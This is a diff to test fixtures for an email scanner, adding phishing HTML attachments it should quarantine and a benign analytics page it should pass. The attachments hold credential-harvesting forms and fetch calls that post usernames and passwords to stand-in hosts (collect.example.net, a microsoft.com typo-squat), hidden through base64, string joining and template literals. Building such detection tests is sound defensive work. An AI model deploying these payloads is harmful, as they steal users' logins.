@@ -125,6 +125,32 @@ func htmlPhishCases() []officeCase {
 		quarantine("html-redirect-lookalike-atob", "HTML attachment whose timer sends the window, from a base64 literal held in a variable, to a typo-squat of microsoft.com: the target itself is judged",
 			"Payroll_Update.html", "<html><body><p>Loading your document...</p>\r\n<script>\r\nvar dst = atob('"+base64.StdEncoding.EncodeToString([]byte("https://"+redirectLookalike+"/common/oauth2/authorize?client_id=4471"))+"');\r\n"+
 				"setTimeout(function () { window.location.replace(dst + '#' + 'kenji@corp.example.jp'); }, 300);\r\n</script></body></html>\r\n", "html-redirect-attachment", "lookalike-domain"),
+		// Addresses built from literal pieces, which Kensa folds (never runs).
+		quarantine("html-redirect-joined-lookalike", "HTML attachment whose timer sends the window to a typo-squat of microsoft.com spelled as pieces joined with \"/\" ([\"https:\", \"\", host, ...].join(\"/\"))",
+			"Scan_0412.html", "<html><body><p>Loading your document...</p>\r\n<script>\r\n"+
+				"setTimeout(function () { window.location.replace([\"https:\", \"\", \""+redirectLookalike+"\", \"common\", \"oauth2\", \"authorize?client_id=4471\"].join(\"/\")); }, 300);\r\n</script></body></html>\r\n", "html-redirect-attachment", "lookalike-domain"),
+		quarantine("html-redirect-template-lookalike", "HTML attachment that sends the window to a typo-squat of microsoft.com written as a template literal of a host held, in pieces, in a variable",
+			"Invoice_7731.html", "<html><body><p>Opening your invoice...</p>\r\n<script>\r\nconst host = \"secure-micorsoft\" + '-login' + \".com\";\r\n"+
+				"window.location.href = `https://${host}/sharepoint/view?id=7731`;\r\n</script></body></html>\r\n", "html-redirect-attachment", "lookalike-domain"),
+		quarantine("html-phish-formaction-joined", "HTML login form with an empty action whose button's formAction the script sets to an address joined from pieces",
+			"Payroll_Portal.html", phishPage("Payroll", "", `<div class="box"><form id="lf" action="" method="post"><input type="email" name="u">`+
+				`<input type="password" name="p"><button id="go">Sign in</button></form></div>`,
+				`document.getElementById("go").formAction = ["https:", "", "collect.example.net", "owa", "auth.php"].join("/");`), "html-credential-form"),
+		quarantine("html-phish-setattribute-submit", "HTML login form pointed at a remote page by setAttribute(\"ACTION\", ...) and submitted by script (requestSubmit) when the button is pressed",
+			"Secure_Statement.html", phishPage("Statement", "", `<div class="box"><form id="lf" method="post"><input type="email" name="u">`+
+				`<input type="password" name="p"><button type="button" id="go">Sign in</button></form></div>`,
+				`document.getElementById("go").onclick = function () {`+"\r\n"+
+					`  var f = document.getElementById("lf");`+"\r\n"+
+					`  f.setAttribute("ACTION", "https://" + "collect.example" + ".net/owa/auth.php");`+"\r\n"+
+					`  f.requestSubmit();`+"\r\n"+
+					`};`), "html-credential-form"),
+		quarantine("html-phish-json-config-lookalike", "HTML login page with no form whose fetch target is read from a base64 JSON configuration: the target, a typo-squat of microsoft.com, is judged",
+			"Shared_Folder.html", phishPage("OneDrive", "", phishLogin,
+				`var cfg = JSON.parse(atob("`+base64.StdEncoding.EncodeToString([]byte(`{"gate":"https://`+redirectLookalike+`/owa/auth.php","retry":2}`))+`"));`+"\r\n"+
+					`document.getElementById("submit-btn").addEventListener("click", function (ev) {`+"\r\n"+
+					`  ev.preventDefault();`+"\r\n"+
+					`  fetch(cfg.gate, {method: "POST", body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});`+"\r\n"+
+					`});`), "html-credential-form", "lookalike-domain"),
 		quarantine("html-redirect-iframe", "HTML attachment that shows a remote login page in a frame across the window",
 			"Wire_Confirmation.html", "<html><head><style>html,body{margin:0;height:100%;overflow:hidden}</style></head><body>\r\n<iframe src=\"https://landing.example.net/signin/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:none\"></iframe>\r\n</body></html>\r\n", "html-redirect-attachment"),
 		quarantine("html-redirect-written-refresh", "HTML attachment whose script writes a meta refresh to a remote page with document.write(unescape(...))",
@@ -166,6 +192,16 @@ func htmlPhishClean() []Sample {
 			attach("text/html; charset=utf-8", "weekly-report.html", []byte("<html><body><h1>Weekly sales report</h1><table>"+items.String()+"</table>\r\n"+
 				"<form method=\"post\" action=\"https://reports.shop.example.com/feedback\"><label>Comments <input type=\"text\" name=\"comment\"></label><input type=\"email\" name=\"from\"><button>Send</button></form>\r\n"+
 				"<script>fetch(\"https://reports.shop.example.com/opened?r=weekly\");</script></body></html>\r\n")))})
+	add(ok("html-saved-page-analytics", "a page saved as .html whose analytics script builds its addresses from pieces (+, join, concat, a template) to the shop's own hosts; no password field"),
+		mail{subject: "Your order page", root: multipart("mixed", text("Your order, saved as a page.\n"),
+			attach("text/html; charset=utf-8", "order-2026-1187.html", []byte("<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Order 2026-1187</title>\r\n<script>\r\n"+
+				"var base = \"https://stats.\" + \"shop.example.com\";\r\nvar page = `order`;\r\n"+
+				"fetch(base + \"/collect?page=\" + page, {method: \"POST\", keepalive: true});\r\n"+
+				"var px = new Image(); px.src = [\"https:\", \"\", \"cdn.shop.example.com\", \"px.gif\"].join(\"/\") + \"?t=\" + Date.now();\r\n"+
+				"var help = \"https://\".concat(\"shop.example.com\", \"/help\");\r\n</script></head>\r\n"+
+				"<body><h1>Example Shop</h1><p>Order 2026-1187, 2 November 2026.</p><table>"+items.String()+"</table>\r\n"+
+				"<p><a href=\"https://shop.example.com/orders/2026-1187\">View your order</a></p>"+
+				"<button onclick=\"location.href = help\">Help</button></body></html>\r\n")))})
 	add(ok("html-body-login-link", "an HTML body asking the reader to sign in by a link to the sender's own site"),
 		mail{subject: "Your account", root: html(`<p>Dear customer,</p><p>your statement is ready. <a href="https://shop.example.com/account/login">Sign in to your account</a> to read it.</p><p>Example Shop</p>`)})
 	return out
